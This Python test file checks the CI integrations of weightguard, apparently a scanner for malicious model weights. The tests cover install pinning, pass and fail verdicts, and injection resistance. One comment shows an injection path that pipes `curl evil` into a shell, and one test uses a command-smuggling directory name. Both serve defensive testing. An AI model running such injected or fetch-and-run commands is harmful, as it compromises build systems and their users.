"""CI integrations run as users run them: the Action's shell steps, and the pre-commit hooks through try-repo."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parents[1]
SAMPLES = REPO / "sample_models"


def _action() -> dict[str, Any]:
    action: dict[str, Any] = yaml.safe_load((REPO / "action.yml").read_text())
    return action


def _action_step(step_id_or_name: str) -> dict[str, Any]:
    for step in _action()["runs"]["steps"]:
        if step.get("id") == step_id_or_name or step.get("name") == step_id_or_name:
            assert step["shell"] == "bash", "composite run steps must declare their shell"
            return dict(step)
    raise AssertionError(f"no step {step_id_or_name}")


def _render(text: str, values: dict[str, str]) -> str:
    # What the Actions runner does before running a step: substitute ${{ ... }} expressions.
    return re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda m: values[m.group(1)], text)


def _run_step(
    name: str, values: dict[str, str], env: dict[str, str], timeout: int = 300
) -> subprocess.CompletedProcess[str]:
    """Run one composite step as the runner does: expressions go into the step's env, then bash runs its script."""
    step = _action_step(name)
    step_env = {**env, **{key: _render(str(value), values) for key, value in step.get("env", {}).items()}}
    return subprocess.run(
        ["bash", "-c", _render(step["run"], values)],
        env=step_env,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        cwd=env.get("GITHUB_WORKSPACE"),
    )


def _fresh_env_with_test_deps(home: Path) -> tuple[Path, dict[str, str]]:
    """A new venv that sees the test environment's packages through a path entry, and no package index.

    So installing weightguard into it needs no network, yet weightguard itself can only come from the
    source the CI integration names (the editable install's .pth is not processed through a path entry).
    """
    venv = home / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    site = next((venv / "lib").glob("python*/site-packages"))
    deps = next(Path(p) for p in sys.path if p.endswith("site-packages") and Path(p).is_dir())
    (site / "_test_deps.pth").write_text(f"{deps}\n")
    env = {
        **os.environ,
        "PATH": f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}",
        "PIP_NO_INDEX": "1",
        "PIP_NO_BUILD_ISOLATION": "0",  # pip's spelling for --no-build-isolation
    }
    return venv, env


def _imported_from(venv: Path, cwd: Path) -> Path:
    shown = subprocess.run(
        [str(venv / "bin" / "python"), "-c", "import weightguard, sys; sys.stdout.write(weightguard.__file__)"],
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
        cwd=cwd,
    )
    return Path(shown.stdout)


@pytest.fixture(scope="module")
def action_python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A fresh environment into which the Action's own install step installs weightguard, offline."""
    home = tmp_path_factory.mktemp("action-env")
    venv, env = _fresh_env_with_test_deps(home)
    install = _run_step("Install weightguard", {}, {**env, "GITHUB_ACTION_PATH": str(REPO)})
    assert install.returncode == 0, install.stdout + install.stderr
    site = next((venv / "lib").glob("python*/site-packages"))
    where = _imported_from(venv, home)
    assert where.is_relative_to(site), f"weightguard imported from {where}, not the action's install"
    return venv / "bin"


def _run_action(tmp_path: Path, model: Path, bin_dir: Path) -> tuple[int, dict[str, str]]:
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    output_file = tmp_path / "github_output"
    output_file.write_text("")
    env["GITHUB_OUTPUT"] = str(output_file)
    env["GITHUB_WORKSPACE"] = str(tmp_path)
    sarif = tmp_path / "wg.sarif"
    inputs = {"inputs.path": str(model), "inputs.policy": "", "inputs.output": str(sarif)}
    verify = _run_step("verify", inputs, env)
    assert verify.returncode == 0, verify.stderr  # the verify step records the code and never fails itself
    outputs = dict(line.split("=", 1) for line in output_file.read_text().splitlines())
    values = {
        **inputs,
        "steps.verify.outputs.exit-code": outputs["exit-code"],
        "steps.verify.outputs.verdict": outputs["verdict"],
    }
    final = _run_step("Fail on a blocked or incomplete verification", values, env, timeout=60)
    assert sarif.exists() and '"version": "2.1.0"' in sarif.read_text()
    return final.returncode, outputs


def test_the_action_passes_an_approved_model(tmp_path: Path, action_python: Path) -> None:
    code, outputs = _run_action(tmp_path, SAMPLES / "approved", action_python)
    assert (code, outputs["verdict"]) == (0, "approved")


def test_the_action_fails_the_job_on_a_blocked_model(tmp_path: Path, action_python: Path) -> None:
    code, outputs = _run_action(tmp_path, SAMPLES / "blocked", action_python)
    assert (code, outputs["verdict"], outputs["exit-code"]) == (1, "rejected", "1")


def test_the_action_never_installs_weightguard_by_name_from_an_index() -> None:
    # issue 18: "weightguard" on the public index is an unrelated project; the action installs its own source.
    action = _action()
    assert "package" not in action["inputs"]
    install = _action_step("Install weightguard")["run"]
    assert install.split() == [
        "python",
        "-m",
        "pip",
        "install",
        "--disable-pip-version-check",
        "-q",
        '"$GITHUB_ACTION_PATH"',
    ]


def test_the_action_passes_inputs_through_env_never_into_the_script() -> None:
    # issue 18: ${{ inputs.* }} interpolated into bash is script injection (a path like `x"; curl evil | sh; "`).
    for step in _action()["runs"]["steps"]:
        assert "${{" not in step.get("run", ""), (
            f"step {step.get('name') or step.get('id')} interpolates into its script"
        )


def test_the_action_pins_third_party_actions_by_commit() -> None:
    for step in _action()["runs"]["steps"]:
        if "uses" in step:
            ref = step["uses"].rpartition("@")[2]
            assert re.fullmatch(r"[0-9a-f]{40}", ref), f"{step['uses']} is not pinned by commit SHA"


def test_a_hostile_path_input_is_data_not_shell(tmp_path: Path, action_python: Path) -> None:
    # The runner's working directory is the workspace; the injected command would create "injected" there.
    marker = tmp_path / "injected"
    hostile = tmp_path / 'm"; touch injected; echo "'
    hostile.mkdir()
    (hostile / "config.json").write_text("{}")
    code, outputs = _run_action(tmp_path, hostile, action_python)
    assert not marker.exists()
    assert outputs["verdict"] in {"approved", "incomplete", "rejected"}
    del code


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("git") is None, reason="pre-commit needs git")
def test_pre_commit_try_repo_blocks_a_staged_malicious_checkpoint_whatever_its_name(tmp_path: Path) -> None:
    pre_commit = Path(sys.executable).with_name("pre-commit")
    if not pre_commit.exists():
        pytest.skip("pre-commit is not installed (it is in the [test] extra)")
    # try-repo needs a git repository to clone: snapshot the working tree into one.
    hooks_repo = tmp_path / "hooks-repo"
    shutil.copytree(
        REPO, hooks_repo, ignore=shutil.ignore_patterns(".venv", ".git", "__pycache__", "*.egg-info", ".pytest_cache")
    )
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false"]
    subprocess.run([*git, "init", "-q"], cwd=hooks_repo, check=True)
    subprocess.run([*git, "add", "-A"], cwd=hooks_repo, check=True)
    subprocess.run([*git, "commit", "-q", "-m", "hooks"], cwd=hooks_repo, check=True)
    work = tmp_path / "work"
    work.mkdir()
    subprocess.run([*git, "init", "-q"], cwd=work, check=True)
    # Named as no model format: the hook must scan by bytes, not by extension (issue 18).
    shutil.copy(SAMPLES / "blocked" / "pytorch_model.bin", work / "weights.dat")
    shutil.copy(SAMPLES / "approved" / "model.safetensors", work / "model.safetensors")
    subprocess.run([*git, "add", "-A"], cwd=work, check=True)
    env = {**os.environ, "PRE_COMMIT_HOME": str(tmp_path / "pc-home")}
    result = subprocess.run(
        [str(pre_commit), "try-repo", str(hooks_repo), "weightguard-scan", "--all-files"],
        cwd=work,
        env=env,
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )
    assert result.returncode != 0, result.stdout + result.stderr
    assert "WG-PKL-001" in result.stdout + result.stderr


def _source_archive(target: Path) -> str:
    """A source archive of this checkout, as a user would pin (GitHub's archive/<commit>.tar.gz layout)."""
    with tarfile.open(target, "w:gz") as tar:
        for name in ("pyproject.toml", "README.md", "weightguard", "policies"):
            tar.add(REPO / name, arcname=f"weightguard-src/{name}", filter=_no_caches)
    return hashlib.sha256(target.read_bytes()).hexdigest()


def _no_caches(info: tarfile.TarInfo) -> tarfile.TarInfo | None:
    return None if "__pycache__" in info.name else info


def _run_gitlab_job(tmp_path: Path, variables: dict[str, str]) -> subprocess.CompletedProcess[str]:
    job = yaml.safe_load((REPO / "ci" / "weightguard.gitlab-ci.yml").read_text())["weightguard"]
    venv, env = _fresh_env_with_test_deps(tmp_path / "job-env")
    env.update(job["variables"])
    env.update(variables)
    # The runner runs the script lines in one shell that stops at the first failing line.
    return subprocess.run(
        ["bash", "-e", "-c", "\n".join(job["script"])],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


def test_the_gitlab_template_installs_only_the_pinned_source_archive(tmp_path: Path) -> None:
    archive = tmp_path / "src.tar.gz"
    digest = _source_archive(archive)
    variables = {"WEIGHTGUARD_SOURCE_URL": archive.as_uri(), "WEIGHTGUARD_SOURCE_SHA256": digest}
    blocked = _run_gitlab_job(tmp_path, {**variables, "WEIGHTGUARD_PATH": str(SAMPLES / "blocked")})
    assert blocked.returncode == 1, blocked.stdout + blocked.stderr
    assert json.loads((tmp_path / "weightguard.json").read_text())["verdict"] == "rejected"
    assert (tmp_path / "gl-code-quality-report.json").exists()
    approved = _run_gitlab_job(tmp_path, {**variables, "WEIGHTGUARD_PATH": str(SAMPLES / "approved")})
    assert approved.returncode == 0, approved.stdout + approved.stderr


def test_the_gitlab_template_refuses_an_unpinned_or_altered_source(tmp_path: Path) -> None:
    archive = tmp_path / "src.tar.gz"
    digest = _source_archive(archive)
    unpinned = _run_gitlab_job(tmp_path, {"WEIGHTGUARD_SOURCE_URL": archive.as_uri()})
    assert unpinned.returncode == 2 and "WEIGHTGUARD_SOURCE_SHA256" in unpinned.stderr
    altered = _run_gitlab_job(
        tmp_path, {"WEIGHTGUARD_SOURCE_URL": archive.as_uri(), "WEIGHTGUARD_SOURCE_SHA256": "0" * 64}
    )
    assert altered.returncode == 2 and digest in altered.stderr
    assert not (tmp_path / "weightguard-src.tar.gz").exists()
    assert "pip install" not in altered.stdout + altered.stderr
